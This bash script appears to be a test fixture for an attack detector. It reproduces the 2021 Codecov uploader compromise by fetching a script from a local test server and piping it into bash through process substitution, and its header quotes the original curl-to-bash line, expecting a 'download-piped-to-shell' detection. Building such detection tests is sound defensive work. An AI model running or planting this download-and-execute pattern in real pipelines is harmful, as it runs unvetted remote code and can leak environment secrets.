#!/bin/bash
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: Codecov bash uploader (2021): the tampered uploader ran in thousands of pipelines as `bash <(curl -s https://codecov.io/bash)` and sent their environment out
# expect: download-piped-to-shell ^bash$
# exec-borne: yes
#
# Process substitution: bash is given /dev/fd/63 as its script, a pipe
# whose other end is curl.
set -u

CODECOV_URL="http://127.0.0.1:${BW_ATTACK_PORT:?}/bash"
COVERAGE_FILE="${BW_ATTACK_TMP:?}/coverage.xml"

printf '<coverage line-rate="0.87"/>\n' >"$COVERAGE_FILE"
bash <(curl -s "$CODECOV_URL") -f "$COVERAGE_FILE" -F unittests -Z
status=$?
rm -f "$COVERAGE_FILE"
exit "$status"
